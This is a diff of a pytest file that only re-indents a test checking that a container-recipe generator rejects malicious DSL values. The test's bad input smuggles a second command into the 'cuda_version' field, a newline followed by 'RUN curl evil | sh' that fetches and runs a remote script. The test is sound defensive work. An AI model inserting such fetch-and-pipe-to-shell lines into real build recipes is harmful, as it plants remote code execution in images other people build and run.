@@ -37,8 +37,8 @@ def test_hostile_base_image_is_refused(base, tmp_path):
 def test_dsl_values_are_pattern_checked_before_a_recipe():
     doc = CASES["tensorflow-cuda-pip"]
     bad = {"job": dict(doc["job"], optimisation=dict(doc["job"]["optimisation"],
-                                                    opt_build={"cpu_type": "x86", "acc_type": "nvidia",
-                                                               "cuda_version": "12.4\nRUN curl evil | sh"}))}
+                                                     opt_build={"cpu_type": "x86", "acc_type": "nvidia",
+                                                                "cuda_version": "12.4\nRUN curl evil | sh"}))}
     with pytest.raises(ModakError):
         generate.render(bad)
 
